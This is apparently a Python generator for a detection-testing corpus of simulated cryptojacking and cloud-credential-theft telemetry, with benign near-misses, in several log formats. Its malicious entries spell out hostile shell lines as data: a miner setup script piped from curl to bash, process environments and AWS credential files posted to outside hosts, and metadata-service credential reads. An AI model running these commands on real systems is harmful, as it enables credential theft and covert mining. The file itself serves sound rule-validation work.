#!/usr/bin/env python3
"""Writes the variation corpus, tests/data/rules/variations/: the ways real
campaigns vary the behaviours of T1204.003 (malicious), and the benign
activity closest to them (benign), each in one source's own raw format, with
a manifest.toml naming its story and a public reference.

`pickaxe validate` reads the corpus and reports, per source and per rule, how
many malicious variations the rules catch and how many benign ones raise an
alert, next to the seed rule's. Run this again after changing a story."""
import binascii
import datetime
import ipaddress
import json
import pathlib

OUT = pathlib.Path(__file__).resolve().parent.parent / "tests" / "data" / "rules" / "variations"
BASE = datetime.datetime(2026, 10, 20, 8, 0, 0, tzinfo=datetime.timezone.utc)
WALLET = "4" + "8" + "AbCdEfGhJkLmNpQrStUvWxYz123456789abcdefghijkmnopqrstuvwxyzABCDEFGHJKLMNPQRSTUVWX12345"
WALLET = WALLET[:95]
SHIM = ("containerd-shim-runc-v2", "/usr/bin/containerd-shim-runc-v2")

REFS = {
    "kinsing": "https://blog.aquasec.com/threat-alert-kinsing-malware-container-vulnerability",
    "teamtnt": "https://unit42.paloaltonetworks.com/teamtnt-operations-cloud-environments/",
    "teamtnt-aws": "https://www.cadosecurity.com/blog/team-tnt-the-first-crypto-mining-worm-to-steal-aws-credentials",
    "watchdog": "https://unit42.paloaltonetworks.com/watchdog-cryptojacking/",
    "8220": "https://www.sentinelone.com/labs/8220-gang-cloud-botnet-targets-misconfigured-cloud-workloads/",
    "graboid": "https://unit42.paloaltonetworks.com/graboid-first-ever-cryptojacking-worm-found-in-images-on-docker-hub/",
    "unit42-images": "https://unit42.paloaltonetworks.com/malicious-cryptojacking-images/",
    "sysdig-images": "https://sysdig.com/blog/analysis-of-supply-chain-attacks-through-public-docker-images/",
    "aqua-images": "https://blog.aquasec.com/supply-chain-threats-using-container-images",
    "xmrig": "https://xmrig.com/docs/miner/command-line-options",
    "stratus-gpu": "https://stratus-red-team.cloud/attack-techniques/AWS/aws.execution.ec2-launch-unusual-instances/",
    "stratus-imds": "https://stratus-red-team.cloud/attack-techniques/AWS/aws.credential-access.ec2-steal-instance-credentials/",
    "imds": "https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/instancedata-data-retrieval.html",
    "ecs-creds": "https://docs.aws.amazon.com/AmazonECS/latest/developerguide/task-iam-roles.html",
    "pod-identity": "https://docs.aws.amazon.com/eks/latest/userguide/pod-id-how-it-works.html",
    "gcp-metadata": "https://cloud.google.com/compute/docs/metadata/querying-metadata",
    "azure-imds": "https://learn.microsoft.com/en-us/azure/virtual-machines/instance-metadata-service",
    "aws-cli-export": "https://awscli.amazonaws.com/v2/documentation/api/latest/reference/configure/export-credentials.html",
    "official-images": "https://github.com/docker-library/official-images",
    "ssm-ami": "https://docs.aws.amazon.com/systems-manager/latest/userguide/parameter-store-public-parameters-ami.html",
    "ldd": "https://man7.org/linux/man-pages/man1/ldd.1.html",
    "ntp-pool": "https://www.ntppool.org/en/use.html",
    "gcc": "https://gcc.gnu.org/onlinedocs/gcc/Overall-Options.html",
    "ssh": "https://man.openbsd.org/ssh_config",
    "ec2-errors": "https://docs.aws.amazon.com/AWSEC2/latest/APIReference/errors-overview.html",
    "k8s-token": "https://kubernetes.io/docs/tasks/run-application/access-api-from-pod/",
    "ssm-agent": "https://docs.aws.amazon.com/systems-manager/latest/userguide/ssm-agent.html",
    "go-build": "https://pkg.go.dev/cmd/go#hdr-Compile_and_run_Go_program",
    "bitnami": "https://hub.docker.com/u/bitnami",
    "pip": "https://pypi.org/project/randomx/",
    "dev-server": "https://docs.python.org/3/library/http.server.html",
    "node": "https://nodejs.org/api/net.html",
    "smtp": "https://datatracker.ietf.org/doc/html/rfc6409",
    "pgpool": "https://www.pgpool.net/docs/latest/en/html/runtime-config-connection.html",
    "curl": "https://curl.se/docs/manpage.html",
    "git": "https://git-scm.com/docs/git-clone",
    "java": "https://docs.oracle.com/en/java/javase/17/docs/api/java.base/java/net/Socket.html",
}


class Clock:
    """Event times: each variation starts on its own minute."""

    def __init__(self, index):
        self.time = BASE + datetime.timedelta(minutes=index)

    def next(self, seconds=0.2):
        self.time += datetime.timedelta(seconds=seconds)
        return self.time


def iso(t):
    return t.strftime("%Y-%m-%dT%H:%M:%S.") + f"{t.microsecond // 1000:03d}Z"


# --- Elastic Defend (Endpoint) -------------------------------------------------------------

def endpoint_base(t, host, dataset, category, types, action):
    return {"@timestamp": iso(t), "agent": {"type": "endpoint"},
            "data_stream": {"type": "logs", "dataset": dataset, "namespace": "default"},
            "event": {"dataset": dataset, "module": "endpoint", "kind": "event", "category": [category],
                      "type": types, "action": action},
            "host": {"name": host, "id": f"{host}-id", "os": {"type": "linux"}}}


def endpoint(events, host):
    lines = []
    for kind, t, e in events:
        if kind == "proc":
            doc = endpoint_base(t, host, "endpoint.events.process", "process", ["start"], e.get("action", "exec"))
            proc = {"pid": e["pid"], "entity_id": f"{host}-{e['pid']}", "name": e["name"], "executable": e["exe"],
                    "args": e["args"], "args_count": len(e["args"]), "command_line": " ".join(e["args"]),
                    "working_directory": e.get("cwd", "/")}
            if "parent" in e:
                proc["parent"] = {"pid": e["pid"] - 1, "name": e["parent"][0], "executable": e["parent"][1]}
            doc["process"] = proc
            doc["user"] = {"name": e.get("user", "root")}
        elif kind == "net":
            doc = endpoint_base(t, host, "endpoint.events.network", "network", ["start"], "connection_attempted")
            doc["process"] = {"pid": e["pid"], "entity_id": f"{host}-{e['pid']}", "name": e["name"],
                              "executable": e["exe"]}
            family = "ipv6" if ":" in e["ip"] else "ipv4"
            doc["source"] = {"ip": "172.17.0.5" if family == "ipv4" else "fd00::5", "port": 43210}
            doc["destination"] = {"ip": e["ip"], "port": e["port"]}
            doc["network"] = {"transport": "tcp", "type": family, "direction": "egress"}
        elif kind == "dns":
            doc = endpoint_base(t, host, "endpoint.events.network", "network", ["protocol", "info"],
                                "lookup_requested")
            doc["process"] = {"pid": e["pid"], "entity_id": f"{host}-{e['pid']}", "name": e["name"],
                              "executable": e["exe"]}
            doc["network"] = {"protocol": "dns"}
            doc["dns"] = {"question": {"name": e["query"], "type": "A"}}
        else:
            raise ValueError(kind)
        if e.get("container"):
            doc["container"] = {"id": e["container"]}
            if e.get("image"):
                doc["container"]["image"] = {"name": e["image"]}
        lines.append(json.dumps(doc, separators=(",", ":")))
    return "\n".join(lines) + "\n", "ndjson"


# --- auditd (raw audit.log) ----------------------------------------------------------------

def quote_arg(value):
    """EXECVE writes an argument quoted, or in hex when it has a space, quote or control byte."""
    if '"' in value or any(ord(c) < 0x21 or ord(c) > 0x7e for c in value):
        return binascii.hexlify(value.encode()).decode().upper()
    return f'"{value}"'


def sockaddr(ip, port):
    address = ipaddress.ip_address(ip)
    if address.version == 4:
        return f"0200{port:04X}{binascii.hexlify(address.packed).decode().upper()}0000000000000000"
    return f"0A00{port:04X}00000000{binascii.hexlify(address.packed).decode().upper()}00000000"


def auditd(events, host):
    lines = []
    serial = 70000
    for kind, t, e in events:
        serial += 1
        stamp = f"{t.timestamp():.3f}:{serial}"
        head = f"node={host} type="
        ids = "auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=(none) ses=3"
        comm = e["name"][:15]
        if kind == "proc":
            lines.append(f'{head}SYSCALL msg=audit({stamp}): arch=c000003e syscall=59 success=yes exit=0 a0=5 a1=7ffc '
                         f'a2=10 a3=0 items=1 ppid={e["pid"] - 1} pid={e["pid"]} {ids} comm="{comm}" '
                         f'exe="{e["exe"]}" key="exec"')
            args = " ".join(f"a{i}={quote_arg(a)}" for i, a in enumerate(e["args"]))
            lines.append(f"{head}EXECVE msg=audit({stamp}): argc={len(e['args'])} {args}")
            lines.append(f'{head}CWD msg=audit({stamp}): cwd="{e.get("cwd", "/")}"')
            lines.append(f'{head}PATH msg=audit({stamp}): item=0 name="{e["exe"]}" inode=401233 dev=08:01 '
                         f'mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL')
            title = binascii.hexlify("\0".join(e["args"]).encode()).decode().upper()
            lines.append(f"{head}PROCTITLE msg=audit({stamp}): proctitle={title}")
        elif kind == "net":
            lines.append(f'{head}SYSCALL msg=audit({stamp}): arch=c000003e syscall=42 success=no exit=-115 a0=5 '
                         f'a1=7ffc a2=10 a3=0 items=0 ppid={e["pid"] - 1} pid={e["pid"]} {ids} comm="{comm}" '
                         f'exe="{e["exe"]}" key="net"')
            lines.append(f"{head}SOCKADDR msg=audit({stamp}): saddr={sockaddr(e['ip'], e['port'])}")
        else:
            raise ValueError(kind)
        lines.append(f"{head}EOE msg=audit({stamp}):")
    return "\n".join(lines) + "\n", "log"


# --- Sysmon for Linux (syslog) -------------------------------------------------------------

def xml_escape(text):
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")


def sysmon(events, host):
    lines = []
    record = 5000
    for kind, t, e in events:
        record += 1
        event_id = {"proc": 1, "net": 3, "dns": 22}[kind]
        guid = f"{{6f1c2a10-0000-0000-0000-{e['pid']:012d}}}"
        utc = t.strftime("%Y-%m-%d %H:%M:%S.") + f"{t.microsecond // 1000:03d}"
        data = {"RuleName": "-", "UtcTime": utc, "ProcessGuid": guid, "ProcessId": str(e["pid"]), "Image": e["exe"]}
        if kind == "proc":
            data.update({"CommandLine": " ".join(e["args"]), "CurrentDirectory": e.get("cwd", "/"),
                         "User": e.get("user", "root")})
            parent = e.get("parent", ("bash", "/usr/bin/bash"))
            data.update({"ParentProcessGuid": f"{{6f1c2a10-0000-0000-0000-{e['pid'] - 1:012d}}}",
                         "ParentProcessId": str(e["pid"] - 1), "ParentImage": parent[1],
                         "ParentCommandLine": parent[1], "ParentUser": "root"})
        elif kind == "net":
            v6 = ":" in e["ip"]
            data.update({"User": e.get("user", "root"), "Protocol": "tcp",
                         "Initiated": "false" if e.get("inbound") else "true",
                         "SourceIsIpv6": "true" if v6 else "false",
                         "SourceIp": "203.0.113.99" if e.get("inbound") else "fd00::7" if v6 else "10.0.7.7",
                         "SourceHostname": "-", "SourcePort": "44321", "SourcePortName": "-",
                         "DestinationIsIpv6": "true" if v6 else "false", "DestinationIp": e["ip"],
                         "DestinationHostname": e.get("domain", "-"), "DestinationPort": str(e["port"]),
                         "DestinationPortName": "-"})
        else:
            data.update({"QueryName": e["query"], "QueryStatus": "0", "QueryResults": "::ffff:203.0.113.80;",
                         "User": e.get("user", "root")})
        fields = "".join(f'<Data Name="{k}">{xml_escape(v)}</Data>' for k, v in data.items())
        xml = (f'<Event><System><Provider Name="Linux-Sysmon" Guid="{{ff032593-a8d3-4f13-b0d6-01fc615a0f97}}"/>'
               f"<EventID>{event_id}</EventID><Version>5</Version><Level>4</Level><Task>{event_id}</Task>"
               f"<Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords>"
               f'<TimeCreated SystemTime="{t.strftime("%Y-%m-%dT%H:%M:%S.%fZ")}"/>'
               f"<EventRecordID>{record}</EventRecordID><Correlation/>"
               f'<Execution ProcessID="812" ThreadID="812"/><Channel>Linux-Sysmon/Operational</Channel>'
               f'<Computer>{host}</Computer><Security UserId="0"/></System><EventData>{fields}</EventData></Event>')
        lines.append(f"{t.strftime('%b %e %H:%M:%S')} {host} sysmon: {xml}")
    return "\n".join(lines) + "\n", "log"


# --- Docker daemon events ------------------------------------------------------------------

def docker(events, host):
    lines = []
    for kind, t, e in events:
        seconds = int(t.timestamp())
        nano = seconds * 1_000_000_000 + t.microsecond * 1000
        if e["action"] == "pull":
            doc = {"status": "pull", "id": e["image"], "Type": "image", "Action": "pull",
                   "Actor": {"ID": e["image"], "Attributes": {"name": e["image"].split("@")[0].rsplit(":", 1)[0]}}}
        else:
            cid = e.get("container", "7c1e2d3f4a5b") + "0" * 52
            doc = {"status": e["action"], "id": cid, "from": e["image"], "Type": "container", "Action": e["action"],
                   "Actor": {"ID": cid, "Attributes": {"image": e["image"], "name": "svc"}}}
        doc.update({"scope": "local", "time": seconds, "timeNano": nano})
        lines.append(json.dumps(doc, separators=(",", ":")))
    return "\n".join(lines) + "\n", "ndjson"


# --- AWS CloudTrail ------------------------------------------------------------------------

def cloudtrail(events, host):
    records = []
    for i, (kind, t, e) in enumerate(events):
        record = {"eventVersion": "1.09",
                  "userIdentity": {"type": "IAMUser", "principalId": "AIDAEXAMPLE0001",
                                   "arn": f"arn:aws:iam::111122223333:user/{e.get('user', 'deployer')}",
                                   "accountId": "111122223333", "accessKeyId": "AKIAEXAMPLEKEY0001",
                                   "userName": e.get("user", "deployer")},
                  "eventTime": t.strftime("%Y-%m-%dT%H:%M:%SZ"), "eventSource": "ec2.amazonaws.com",
                  "eventName": e["name"], "awsRegion": "us-east-1", "sourceIPAddress": e.get("ip", "198.51.100.40"),
                  "userAgent": e.get("agent", "aws-cli/2.15.0 Python/3.11"),
                  "requestParameters": e["request"]}
        if "error" in e:
            record["errorCode"] = e["error"]
            record["errorMessage"] = "You are not authorized to perform this operation."
        else:
            record["responseElements"] = e.get("response", {"requestId": f"r-{i}"})
        record.update({"requestID": f"req-{host}-{i}", "eventID": f"evt-{host}-{i}", "readOnly": False,
                       "eventType": "AwsApiCall", "managementEvent": True, "recipientAccountId": "111122223333",
                       "eventCategory": "Management"})
        records.append(record)
    return json.dumps({"Records": records}, indent=1) + "\n", "json"


RENDER = {"endpoint": endpoint, "auditd": auditd, "sysmon": sysmon, "docker": docker, "cloudtrail": cloudtrail}


def proc(name, exe, args, pid=4100, **extra):
    return ("proc", dict(name=name, exe=exe, args=args, pid=pid, **extra))


def net(name, exe, ip, port, pid=4100, **extra):
    return ("net", dict(name=name, exe=exe, ip=ip, port=port, pid=pid, **extra))


def dns(name, exe, query, pid=4100, **extra):
    return ("dns", dict(name=name, exe=exe, query=query, pid=pid, **extra))


def pull(image):
    return ("docker", dict(action="pull", image=image))


def container(action, image):
    return ("docker", dict(action=action, image=image))


def run_instances(image_id, instance_type="c5.2xlarge", **extra):
    return ("api", dict(name="RunInstances",
                        request={"instancesSet": {"items": [{"imageId": image_id, "minCount": 1, "maxCount": 1}]},
                                 "instanceType": instance_type},
                        response={"instancesSet": {"items": [{"instanceId": "i-0a1b2c3d4e5f60718",
                                                              "imageId": image_id}]}}, **extra))


def denied(instance_type, name="RunInstances"):
    request = ({"instancesSet": {"items": [{"imageId": "ami-0abcdef1234567890", "minCount": 1, "maxCount": 1}]},
                "instanceType": instance_type} if name == "RunInstances" else
               {"launchSpecification": {"imageId": "ami-0abcdef1234567890", "instanceType": instance_type},
                "instanceCount": 1})
    return ("api", dict(name=name, request=request, error="Client.UnauthorizedOperation", user="ci-leaked",
                        ip="203.0.113.66", agent="Boto3/1.34.0"))


C = "9f8e7d6c5b4a"  # a container id
M, B = "malicious", "benign"

# (id, kind, source, story, reference, events)
VARIATIONS = [
    # Miners that hide their name
    ("kinsing-kdevtmpfsi", M, "endpoint",
     "Kinsing's miner dropped as /tmp/kdevtmpfsi and started in a container with no arguments.", "kinsing",
     [proc("kdevtmpfsi", "/tmp/kdevtmpfsi", ["/tmp/kdevtmpfsi"], parent=SHIM, container=C)]),
    ("kswapd0-rename-config-only", M, "auditd",
     "XMRig renamed kswapd0 in a hidden folder, reading its pool from a config file only.", "teamtnt",
     [proc("kswapd0", "/var/tmp/.x/kswapd0", ["./kswapd0", "-c", "/var/tmp/.x/config.json"], cwd="/var/tmp/.x")]),
    ("dynamic-loader-miner", M, "endpoint",
     "WatchDog-style: the miner run through the dynamic loader so its own file is never executed.", "watchdog",
     [proc("ld-linux-x86-64.so.2", "/usr/lib64/ld-linux-x86-64.so.2",
           ["/lib64/ld-linux-x86-64.so.2", "/tmp/.watchdog/xm", "--config=/tmp/.watchdog/c.json"])]),
    ("renamed-short-options-wallet", M, "sysmon",
     "XMRig renamed systemd-logind, with short options, a pool by IP on 443 with TLS, and a wallet.", "xmrig",
     [proc("systemd-logind", "/usr/local/bin/systemd-logind",
           ["systemd-logind", "-o", "45.9.148.117:443", "-u", WALLET, "-k", "--tls", "-a", "rx/0"])]),
    ("xmrig-performance-options", M, "auditd",
     "A renamed XMRig tuned with RandomX and CPU options, its pool in a config file.", "xmrig",
     [proc(".sysd", "/dev/shm/.sysd", ["./.sysd", "--randomx-1gb-pages", "--cpu-max-threads-hint=75", "-c",
                                        "/dev/shm/.sysd.json"], cwd="/dev/shm")]),
    ("sysupdate-8220", M, "endpoint",
     "8220 Gang's miner named sysupdate, started with only its config file.", "8220",
     [proc("sysupdate", "/var/tmp/sysupdate", ["/var/tmp/sysupdate", "-c", "/var/tmp/config.json"])]),
    ("inline-algo-pool-443", M, "auditd",
     "A miner hidden as .dbus with the algorithm inline and a pool on 443 given as --url=host:port.", "xmrig",
     [proc(".dbus", "/usr/bin/.dbus", ["/usr/bin/.dbus", "-a=rx/0", "--url=pool.hashvault.pro:443",
                                        "--user=" + WALLET])]),
    ("srbminer-gpu", M, "endpoint",
     "SRBMiner-MULTI started by a cron job in a container image, mining on a GPU.", "unit42-images",
     [proc("SRBMiner-MULTI", "/opt/.cache/SRBMiner-MULTI",
           ["SRBMiner-MULTI", "--algorithm", "kawpow", "--pool", "rvn.2miners.com:6060", "--wallet", "RVNaddr"],
           container=C)]),
    ("gpu-miner-kawpow-dev-shm", M, "sysmon",
     "A GPU miner run from /dev/shm under a random name with --algo kawpow.", "unit42-images",
     [proc("lol", "/dev/shm/lol", ["/dev/shm/lol", "--algo", "kawpow", "--pool", "stratum+tcp://rvn.example-pool.io:10001"])]),
    ("fake-sshd-in-tmp", M, "sysmon",
     "A miner named sshd running from /tmp, masquerading as the SSH daemon.", "teamtnt",
     [proc("sshd", "/tmp/sshd", ["/tmp/sshd", "-B"])]),
    ("kworker-named-miner", M, "auditd",
     "A miner file named kworker, run as [kworker/0:1]: kernel threads are never executed from a file.", "watchdog",
     [proc("kworker", "/usr/lib/.kw/kworker", ["[kworker/0:1]"])]),
    ("c3pool-setup-script", M, "endpoint",
     "The c3pool miner setup script fetched and piped to bash with a wallet.", "8220",
     [proc("bash", "/usr/bin/bash", ["bash", "-c", "curl -s -L https://download.c3pool.org/xmrig_setup/raw/master/"
                                     "setup_c3pool_miner.sh | bash -s " + WALLET])]),
    # Pools by address, domain and port
    ("pool-ip-443-from-dev-shm", M, "endpoint",
     "A miner in /dev/shm reaching its pool by IP with TLS on 443.", "teamtnt",
     [net("x", "/dev/shm/.x/x", "45.9.148.117", 443)]),
    ("pool-ip-tls-hidden-tmp", M, "sysmon",
     "A miner in a hidden /var/tmp folder reaching nanopool's TLS port by IP.", "watchdog",
     [net("ice", "/var/tmp/.ICE-unix/ice", "51.15.58.224", 14433)]),
    ("nicehash-lookup", M, "endpoint",
     "A renamed miner resolving NiceHash's RandomX endpoint.", "xmrig",
     [dns("node", "/usr/bin/node", "randomxmonero.auto.nicehash.com")]),
    ("miner-from-cloud-init", M, "endpoint",
     "A malicious AMI's user data starting a miner through cloud-init.", "stratus-gpu",
     [proc("xmrig", "/var/lib/cloud/instance/scripts/xmrig", ["xmrig", "-c", "/etc/xmrig.json"],
           parent=("cloud-init", "/usr/bin/cloud-init"))]),
    ("herominers-port", M, "auditd",
     "A python process inside an image connecting to a HeroMiners port.", "unit42-images",
     [net("python3", "/usr/bin/python3.11", "198.51.100.90", 10191)]),
    ("minergate-port", M, "endpoint",
     "A connection to MinerGate's stratum port from a container process.", "sysdig-images",
     [net("app", "/usr/local/bin/app", "198.51.100.91", 45700, container=C)]),
    ("loopback-proxy-in-container", M, "endpoint",
     "A miner renamed php-fpm in a container, mining through an xmrig-proxy on loopback.", "teamtnt",
     [net("php-fpm", "/usr/local/sbin/php-fpm", "127.0.0.1", 3333, container=C)]),
    ("unmineable-dns", M, "endpoint",
     "A lookup of unMineable, a pool missing from the seed's lists.", "unit42-images",
     [dns("xmr", "/tmp/xmr", "rx.unmineable.com")]),
    ("f2pool-dns", M, "endpoint",
     "A lookup of F2Pool's Monero endpoint.", "8220",
     [dns("kthreaddk", "/tmp/kthreaddk", "xmr.f2pool.com")]),
    ("unknown-stratum-host", M, "endpoint",
     "A pool missing from every list: a stratum host name resolved, then connected on a custom port.", "xmrig",
     [dns("svc", "/usr/local/bin/svc", "stratum.newpool-xyz.net"), net("svc", "/usr/local/bin/svc", "203.0.113.77", 5000)]),
    # Credential theft
    ("imds-ipv6", M, "endpoint",
     "Instance role credentials read from IMDS's IPv6 address in a container.", "imds",
     [proc("curl", "/usr/bin/curl", ["curl", "-s", "http://[fd00:ec2::254]/latest/meta-data/iam/security-credentials/node-role"],
           container=C, parent=SHIM)]),
    ("ecs-task-credentials", M, "auditd",
     "ECS task credentials fetched with wget from the task credential endpoint.", "ecs-creds",
     [proc("wget", "/usr/bin/wget", ["wget", "-qO-", "http://169.254.170.2/v2/credentials/0f3c8e9a-1b2c-4d5e"])]),
    ("eks-pod-identity", M, "sysmon",
     "EKS Pod Identity credentials requested with the pod's token from a shell.", "pod-identity",
     [proc("sh", "/bin/sh", ["sh", "-c", "curl -s -H \"Authorization: $(cat /var/run/secrets/pods.eks.amazonaws.com/"
                                        "serviceaccount/eks-pod-identity-token)\" http://169.254.170.23/v1/credentials"])]),
    ("busybox-wget-imds", M, "endpoint",
     "busybox's wget applet reading the instance role's credentials.", "stratus-imds",
     [proc("busybox", "/bin/busybox", ["wget", "-q", "-O", "-",
                                       "http://169.254.169.254/latest/meta-data/iam/security-credentials/"],
           container=C)]),
    ("python-urllib-imds", M, "auditd",
     "A one-line python script requesting instance credentials itself.", "teamtnt-aws",
     [proc("python3", "/usr/bin/python3.11", ["python3", "-c", "import urllib.request as u;print(u.urlopen("
                                              "'http://169.254.169.254/latest/meta-data/iam/security-credentials/')"
                                              ".read())"])]),
    ("aws-cli-export", M, "endpoint",
     "The AWS CLI exporting the credentials it resolves inside a container.", "aws-cli-export",
     [proc("aws", "/usr/local/bin/aws", ["aws", "configure", "export-credentials", "--format", "env"], container=C)]),
    ("environ-piped-to-curl", M, "sysmon",
     "Process environments harvested from /proc and posted with curl in one shell line.", "teamtnt-aws",
     [proc("sh", "/bin/sh", ["sh", "-c", "cat /proc/*/environ | curl -s -X POST --data-binary @- http://45.9.148.35/e"])]),
    ("aws-credentials-uploaded", M, "auditd",
     "TeamTNT-style: the AWS credentials file uploaded with curl -F.", "teamtnt-aws",
     [proc("curl", "/usr/bin/curl", ["curl", "-F", "f=@/root/.aws/credentials", "http://45.9.148.35/up.php"])]),
    ("k8s-token-read-in-container", M, "endpoint",
     "The Kubernetes service account token read in a container.", "k8s-token",
     [proc("cat", "/bin/cat", ["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"], container=C, parent=SHIM)]),
    ("docker-config-uploaded", M, "endpoint",
     "The Docker registry credentials uploaded to an FTP server with curl -T.", "teamtnt",
     [proc("curl", "/usr/bin/curl", ["curl", "-T", "/root/.docker/config.json", "ftp://203.0.113.9/"])]),
    ("gcp-metadata-token", M, "endpoint",
     "A GCP service account token read from the metadata server.", "gcp-metadata",
     [proc("curl", "/usr/bin/curl", ["curl", "-s", "-H", "Metadata-Flavor: Google",
                                     "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"],
           container=C)]),
    ("azure-imds-token", M, "sysmon",
     "An Azure managed identity token read from IMDS.", "azure-imds",
     [proc("curl", "/usr/bin/curl", ["curl", "-s", "-H", "Metadata:true",
                                     "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01"
                                     "&resource=https://management.azure.com/"])]),
    # Images
    ("typo-substitution", M, "docker",
     "A typosquat by substitution: postgrex for postgres.", "aqua-images",
     [pull("docker.io/library/postgrex:16"), container("create", "postgrex:16")]),
    ("typo-in-namespace", M, "docker",
     "A typo in the namespace rather than the repository: libary/alpine.", "sysdig-images",
     [pull("docker.io/libary/alpine:3.19")]),
    ("typo-pulled-by-digest", M, "docker",
     "A typosquat pulled by digest: pyhton@sha256.", "unit42-images",
     [pull("pyhton@sha256:2f8c2a1e0e7d6b5a4c3b2a1f0e9d8c7b6a5f4e3d2c1b0a9f8e7d6c5b4a3f2e1d")]),
    ("official-name-republished", M, "docker",
     "An official image's name re-published under a look-alike namespace.", "unit42-images",
     [pull("alpine-official/alpine:latest"), container("start", "alpine-official/alpine:latest")]),
    ("graboid-image", M, "docker",
     "Graboid's worm image: nginx under the gakeaws namespace.", "graboid",
     [pull("gakeaws/nginx:latest")]),
    ("unknown-registry", M, "docker",
     "An image served from a throwaway registry.", "sysdig-images",
     [pull("registry.evil-mirror.xyz/library/nginx:1.25")]),
    ("defend-exec-in-miner-image", M, "endpoint",
     "An Elastic Defend exec event in a container of a Kinsing image.", "kinsing",
     [proc("sh", "/bin/sh", ["sh", "-c", "./start.sh"], container=C, image="docker.io/kinsing/ubuntu:22.04",
           action="exec")]),
    # Cloud
    ("spot-instance-community-ami", M, "cloudtrail",
     "A Spot request launching a community AMI.", "stratus-gpu",
     [("api", dict(name="RequestSpotInstances",
                   request={"launchSpecification": {"imageId": "ami-0c0mmun1ty5p0t", "instanceType": "c5.4xlarge"},
                            "instanceCount": 4}))]),
    ("launch-template-community-ami", M, "cloudtrail",
     "A launch template created with a community AMI.", "stratus-gpu",
     [("api", dict(name="CreateLaunchTemplate",
                   request={"CreateLaunchTemplateRequest": {"LaunchTemplateName": "workers",
                                                            "LaunchTemplateData": {"ImageId": "ami-0c0ffee0c0ffee000",
                                                                                   "InstanceType": "c5.4xlarge"}}}))]),
    ("denied-gpu-burst", M, "cloudtrail",
     "Stolen keys trying GPU instances: three denied launches in a minute.", "stratus-gpu",
     [denied("p3.2xlarge"), denied("p3.8xlarge"), denied("g4dn.12xlarge", "RequestSpotInstances")]),
    # Known blind spots: kept in the corpus so that the figures say what the rules cannot see.
    ("blind-miner-like-an-app", M, "endpoint",
     "Blind spot: a miner named node in /usr/local/bin, its pool in a config file, reached by IP with TLS "
     "on 443 from a container. Nothing in its name, arguments, path or port is a miner's.", "teamtnt",
     [proc("node", "/usr/local/bin/node", ["node", "server.js"], container=C),
      net("node", "/usr/local/bin/node", "198.51.100.200", 443, container=C)]),
    ("blind-sdk-credential-theft", M, "auditd",
     "Blind spot: a script file using the AWS SDK to read the instance role's credentials: no URL on any "
     "command line.", "teamtnt-aws",
     [proc("python3", "/usr/bin/python3.11", ["python3", "/app/collect.py"], cwd="/app")]),
    ("blind-two-edit-typosquat", M, "docker",
     "Blind spot: a typosquat two edits away (ngiinxx for nginx).", "aqua-images",
     [pull("ngiinxx:latest")]),
    ("community-ami-run", M, "cloudtrail",
     "An instance run from a public community AMI.", "stratus-gpu",
     [run_instances("ami-0badc0de0badc0de0")]),

    # Benign near-misses
    ("gcc-output-option", B, "endpoint",
     "A compiler's output option: gcc -o pool.o.", "gcc",
     [proc("gcc", "/usr/bin/gcc", ["gcc", "-c", "-o", "pool.o", "pool.c"], user="dev")]),
    ("assembler-output-option", B, "auditd",
     "An assembler writing stratum.o with -o.", "gcc",
     [proc("as", "/usr/bin/as", ["as", "-o", "stratum.o", "stratum.s"])]),
    ("ssh-option-and-port", B, "sysmon",
     "ssh with -o and a port that pools also use, to a LAN host.", "ssh",
     [proc("ssh", "/usr/bin/ssh", ["ssh", "-o", "ServerAliveInterval=30", "-p", "4444", "dev@10.0.0.5"])]),
    ("dev-server-loopback", B, "endpoint",
     "A developer's node server reached on 127.0.0.1:3333.", "node",
     [net("node", "/usr/bin/node", "127.0.0.1", 3333)]),
    ("dev-server-lan", B, "auditd",
     "A test server on the LAN on port 4444.", "dev-server",
     [net("python3", "/usr/bin/python3.11", "192.168.1.20", 4444)]),
    ("java-lan-9999", B, "sysmon",
     "A Java service talking to a LAN peer on 9999.", "java",
     [net("java", "/usr/lib/jvm/java-17/bin/java", "10.2.3.4", 9999)]),
    ("official-mono", B, "docker",
     "mono, an official image one edit from mongo.", "official-images",
     [pull("mono:6.12"), container("start", "mono:6.12")]),
    ("verified-bitnami-redis", B, "docker",
     "A verified publisher's image named like an official one: bitnami/redis.", "bitnami",
     [pull("bitnami/redis:7.2")]),
    ("official-by-digest", B, "docker",
     "An official image pinned by digest.", "official-images",
     [pull("nginx@sha256:0d17b565c37bcbd895e9d92315a05c1c3c9a29f762b011a10c54a66cd53c9b31")]),
    ("official-library-postgres", B, "docker",
     "The official postgres image with its full library name.", "official-images",
     [pull("docker.io/library/postgres:16"), container("create", "postgres:16")]),
    ("amazon-ami-by-alias", B, "cloudtrail",
     "An instance of Amazon Linux launched by its public SSM alias.", "ssm-ami",
     [run_instances("resolve:ssm:/aws/service/ami-amazon-linux-latest/al2023-ami-kernel-default-x86_64")]),
    ("one-denied-gpu-launch", B, "cloudtrail",
     "A single denied GPU launch: a missing permission, not a burst.", "ec2-errors",
     [denied("p3.2xlarge")]),
    ("denied-small-instances", B, "cloudtrail",
     "Three denied launches of small general-purpose instances.", "ec2-errors",
     [denied("t3.micro"), denied("t3.micro"), denied("t3.small")]),
    ("cloud-init-instance-id", B, "endpoint",
     "cloud-init reading the instance id from IMDS.", "imds",
     [proc("curl", "/usr/bin/curl", ["curl", "-s", "http://169.254.169.254/latest/meta-data/instance-id"],
           parent=("cloud-init", "/usr/bin/cloud-init"))]),
    ("ssm-agent-role-credentials", B, "sysmon",
     "An SSM Run Command document reading the role's credentials (the Cloud agents exception).", "ssm-agent",
     [proc("curl", "/usr/bin/curl", ["curl", "-s", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"],
           parent=("ssm-document-worker", "/usr/bin/ssm-document-worker"))]),
    ("aws-configure-get-region", B, "endpoint",
     "A developer reading the CLI's default region.", "aws-cli-export",
     [proc("aws", "/usr/local/bin/aws", ["aws", "configure", "get", "region"], user="dev")]),
    ("cat-own-aws-credentials", B, "auditd",
     "A developer reading their own credentials file on a workstation.", "aws-cli-export",
